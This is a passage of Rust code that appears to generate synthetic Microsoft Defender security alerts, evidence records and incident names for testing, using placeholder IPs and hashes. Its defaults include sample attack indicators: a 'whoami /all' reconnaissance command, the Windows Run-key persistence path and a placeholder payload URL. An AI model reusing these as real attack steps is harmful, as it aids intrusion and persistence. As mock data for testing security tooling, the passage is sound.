            "firstActivityDateTime": format_graph_time(first_activity),
            "lastActivityDateTime": format_graph_time(last_activity),
            "investigationState": investigation,
            "alertPolicyId": if t.service == MDO { json!(detector) } else { Value::Null },
            "additionalData": Value::Null,
            "customDetails": Value::Null,
            "systemTags": [],
            "comments": [],
            "evidence": evidence,
        })
    }

    fn evidence(
        &mut self,
        kind: Ev,
        t: &Template,
        ctx: &AlertContext<'_>,
        created: DateTime<Utc>,
        resolved: bool,
    ) -> Value {
        let Generator { rng, devices, people, tid, nt_domain, dns_domain, now, .. } = self;
        let (tid, nt_domain, dns_domain, now) = (tid.as_str(), nt_domain.as_str(), dns_domain.as_str(), *now);
        let device = &devices[ctx.device];
        let person = &people[ctx.user];
        let acct = person.acct.to_ascii_lowercase();
        let user_account = |p: &Person| user_account(p, nt_domain, tid);
        let (type_name, verdict, roles, detailed): (&str, &str, Value, Value) = match kind {
            Ev::Device => ("deviceEvidence", "unknown", json!(["compromised"]), json!(["PrimaryDevice"])),
            Ev::User => ("userEvidence", "unknown", json!(["compromised"]), json!([])),
            Ev::Ip => ("ipEvidence", "suspicious", json!(["attacker"]), json!([])),
            Ev::Url => ("urlEvidence", "malicious", json!(["attacker"]), json!([])),
            Ev::File => ("fileEvidence", "malicious", json!([]), json!([])),
            Ev::Mailbox => ("mailboxEvidence", "unknown", json!(["destination"]), json!([])),
            Ev::Process => ("processEvidence", "suspicious", json!([]), json!([])),
            Ev::RegistryKey => ("registryKeyEvidence", "suspicious", json!(["edited"]), json!([])),
        };
        // Files, processes and URLs are what automated investigation remediates; now and then it
        // reports a post-sentinel status, which clients only see with the Prefer opt-in.
        let remediation = if matches!(kind, Ev::File | Ev::Process | Ev::Url) {
            if rng.chance(15) {
                *rng.pick(&["pendingApproval", "active", "running", "unremediated"])
            } else if resolved {
                *rng.pick(&["remediated", "prevented", "blocked"])
            } else {
                "none"
            }
        } else {
            "none"
        };
        let mut e = json!({
            "@odata.type": format!("#microsoft.graph.security.{type_name}"),
            "createdDateTime": format_graph_time(created),
            "verdict": verdict,
            "remediationStatus": remediation,
            "remediationStatusDetails": Value::Null,
            "roles": roles,
            "detailedRoles": detailed,
            "tags": [],
        });
        let fields = match kind {
            Ev::Device => {
                let first_seen = now - Duration::seconds(rng.range(30 * 86_400, 400 * 86_400));
                let first_seen = with_fraction(rng, first_seen, 7);
                let server = device.group == "Servers";
                json!({
                    "azureAdDeviceId": device.aad_id,
                    "defenderAvStatus": "updated",
                    "deviceDnsName": device.fqdn,
                    "dnsDomain": dns_domain,
                    "firstSeenDateTime": format_graph_time(first_seen),
                    "healthStatus": "active",
                    "hostName": device.host,
                    "ipInterfaces": [device.ip, "127.0.0.1", "::1"],
                    "lastExternalIpAddress": format!("203.0.113.{}", 10 + ctx.device),
                    "lastIpAddress": device.ip,
                    "loggedOnUsers": [{"accountName": acct, "domainName": nt_domain}],
                    "mdeDeviceId": device.mde_id,
                    "ntDomain": nt_domain,
                    "onboardingStatus": "onboarded",
                    "osBuild": device.build,
                    "osPlatform": device.os,
                    "rbacGroupId": device.group_id,
                    "rbacGroupName": device.group,
                    "resourceAccessEvents": [],
                    "riskScore": *rng.pick(&["high", "medium", "low"]),
                    "version": device.version,
                    "vmMetadata": if server {
                        json!({
                            "cloudProvider": "azure",
                            "resourceId": format!("/subscriptions/{}/resourceGroups/prod-rg/providers/Microsoft.Compute/virtualMachines/{}", guid_from(hash_str(tid), 1), device.host),
                            "subscriptionId": guid_from(hash_str(tid), 1),
                            "vmId": guid_from(hash_str(&device.mde_id), 2),
                        })
                    } else {
                        Value::Null
                    },
                })
            }
            Ev::User => json!({"stream": Value::Null, "userAccount": user_account(person)}),
            Ev::Mailbox => json!({
                "displayName": person.display,
                "primaryAddress": person.upn,
                "upn": person.upn,
                "userAccount": user_account(person),
            }),
            Ev::Ip => {
                let (city, country, letters, lat, lon, state) = *rng.pick(&PLACES);
                json!({
                    "countryLetterCode": letters,
                    "ipAddress": format!("{}.{}", rng.pick(&["198.51.100", "203.0.113", "192.0.2"]), rng.range(2, 254)),
                    "location": {"city": city, "countryName": country, "latitude": lat, "longitude": lon, "state": state},
                    "stream": Value::Null,
                })
            }
            Ev::Url => json!({"url": t.url.unwrap_or("https://payload-cdn.example/d/update.bin")}),
            Ev::File => {
                let spec = t.file.unwrap_or(FileSpec {
                    name: "update.bin",
                    path: "C:\\Users\\{acct}\\AppData\\Local\\Temp",
                    size: 73728,
                    publisher: None,
                    signer: None,
                });
                let mde = if t.evidence.contains(&Ev::Device) { json!(device.mde_id) } else { Value::Null };
                json!({
                    "detectionStatus": if resolved { "prevented" } else { "detected" },
                    "fileDetails": file_details(rng, &spec, &acct),
                    "mdeDeviceId": mde,
                })
            }
            Ev::Process => {
                let (image, parent, command) = t.process.unwrap_or((CMD, EXPLORER, "cmd.exe /c whoami /all"));
                let lead = Duration::seconds(rng.range(5, 120));
                let started = with_fraction(rng, created - lead, 7);
                let parent_lead = Duration::seconds(rng.range(60, 7200));
                let parent_started = with_fraction(rng, started - parent_lead, 7);
                json!({
                    "detectionStatus": "detected",
                    "imageFile": file_details(rng, &image, &acct),
                    "mdeDeviceId": device.mde_id,
                    "parentProcessCreationDateTime": format_graph_time(parent_started),
                    "parentProcessId": rng.range(400, 12000),
                    "parentProcessImageFile": file_details(rng, &parent, &acct),
                    "processCommandLine": command.replace("{acct}", &acct).replace("{host}", &device.host),
                    "processCreationDateTime": format_graph_time(started),
                    "processId": rng.range(1000, 30000),
                    "userAccount": user_account(person),
                })
            }
            Ev::RegistryKey => {
                let (hive, key) =
                    t.registry.unwrap_or(("HKEY_LOCAL_MACHINE", "SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run"));
                json!({"registryHive": hive, "registryKey": key})
            }
        };
        if let (Some(obj), Value::Object(extra)) = (e.as_object_mut(), fields) {
            obj.extend(extra);
        }
        e
    }
}

/// A fraction of a second with exactly `digits` significant digits at 100 ns precision, so
/// [`format_graph_time`] prints exactly that many.
fn fraction(rng: &mut Rng, digits: u32) -> Duration {
    if digits == 0 {
        return Duration::zero();
    }
    let scale = 10_i64.pow(digits);
    let value = rng.below(scale as u64 / 10) as i64 * 10 + 1 + rng.below(9) as i64;
    Duration::nanoseconds(value * 10_i64.pow(9 - digits))
}

/// Whole seconds of `at` plus a fraction with `digits` digits.
fn with_fraction(rng: &mut Rng, at: DateTime<Utc>, digits: u32) -> DateTime<Utc> {
    let whole = DateTime::from_timestamp(at.timestamp(), 0).unwrap_or(at);
    whole + fraction(rng, digits)
}

fn user_account(p: &Person, nt_domain: &str, tid: &str) -> Value {
    json!({
        "accountName": p.acct.to_ascii_lowercase(),
        "activeDirectoryObjectGuid": p.ad_guid,
        "azureAdUserId": p.aad_id,
        "displayName": p.display,
        "domainName": nt_domain,
        "resourceAccessEvents": [],
        "tenantId": tid,
        "userPrincipalName": p.upn,
        "userSid": p.sid,
    })
}

fn file_details(rng: &mut Rng, f: &FileSpec, acct: &str) -> Value {
    json!({
        "fileName": f.name,
        "filePath": if f.path.is_empty() { Value::Null } else { json!(f.path.replace("{acct}", acct)) },
        "filePublisher": f.publisher,
        "fileSize": f.size,
        "issuer": Value::Null,
        "md5": rng.hex(32),
        "sha1": rng.hex(40),
        "sha256": rng.hex(64),
        "sha256Ac": Value::Null,
        "signer": f.signer,
    })
}

struct AlertContext<'a> {
    incident_id: &'a str,
    incident_status: &'a str,
    incident_severity: &'static str,
    verdict: Option<(&'static str, &'static str)>,
    assigned_to: Option<String>,
    created: DateTime<Utc>,
    updated: DateTime<Utc>,
    device: usize,
    user: usize,
    /// Fractional digits for this alert's timestamps, so alerts also cover 0–7.
    digits: u32,
}

const TRUE_POSITIVE: [&str; 7] = [
    "multiStagedAttack",
    "malware",
    "phishing",
    "compromisedAccount",
    "maliciousUserActivity",
    "unwantedSoftware",
    "other",
];
const FALSE_POSITIVE: [&str; 3] = ["notMalicious", "notEnoughDataToValidate", "other"];
const EXPECTED_ACTIVITY: [&str; 4] = ["securityTesting", "lineOfBusinessApplication", "confirmedActivity", "other"];

const COMMENTS: [&str; 4] = [
    "Device isolated pending re-image.",
    "User confirmed they did not sign in from this location.",
    "Escalated to tier 2 for forensics.",
    "Blocked the sender domain in the tenant allow/block list.",
];

fn category_label(category: &str) -> &'static str {
    match category {
        "InitialAccess" => "Initial access",
        "Execution" => "Execution",
        "Persistence" => "Persistence",
        "DefenseEvasion" => "Defense evasion",
        "CredentialAccess" => "Credential access",
        "LateralMovement" => "Lateral movement",
        "Ransomware" => "Ransomware",
        "Malware" => "Malware",
        _ => "Suspicious activity",
    }
}

/// Names incidents the way Defender does: a lone alert's title with its scope, or
/// "Multi-stage incident involving A & B on N endpoints".
fn display_name(templates: &[usize], devices: usize, users: usize) -> String {
    let first = &TEMPLATES[templates[0]];
    let scope = |devices: usize, users: usize| match (devices, users) {
        (0, 1) => "involving one user".to_string(),
        (0, n) => format!("involving {n} users"),
        (1, _) => "on one endpoint".to_string(),
        (n, _) => format!("on {n} endpoints"),
    };
    if templates.len() == 1 {
        return format!("{} {}", first.title, scope(devices, users.min(1)));
    }
    let mut labels: Vec<&str> = Vec::new();
    for &t in templates {
        let label = category_label(TEMPLATES[t].category);
        if !labels.contains(&label) {
            labels.push(label);
        }
    }
    labels.truncate(2);
    let sources: std::collections::BTreeSet<&str> = templates.iter().map(|&t| TEMPLATES[t].service).collect();
    let mut name = format!("Multi-stage incident involving {} {}", labels.join(" & "), scope(devices, users));
    if sources.len() > 1 {
        name.push_str(" reported by multiple sources");
    }
    name
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn fractions_have_exact_digit_counts() {
        let mut g = Generator::new(0, DateTime::from_timestamp(1_700_000_000, 0).unwrap());
        for digits in 0..8 {
            for _ in 0..50 {
                let at = g.with_fraction(g.now, digits);
                let text = format_graph_time(at);
                let frac = text.trim_end_matches('Z').split_once('.').map(|(_, f)| f.len()).unwrap_or(0);
                assert_eq!(frac, digits as usize, "{text}");
            }
        }
    }

    #[test]
    fn display_names() {
        assert_eq!(display_name(&[0], 1, 1), "Suspicious PowerShell command line on one endpoint");
        assert_eq!(display_name(&[4], 0, 1), "Impossible travel activity involving one user");
        assert_eq!(
            display_name(&[1, 0], 1, 1),
            "Multi-stage incident involving Initial access & Execution on one endpoint reported by multiple sources"
        );
    }
}
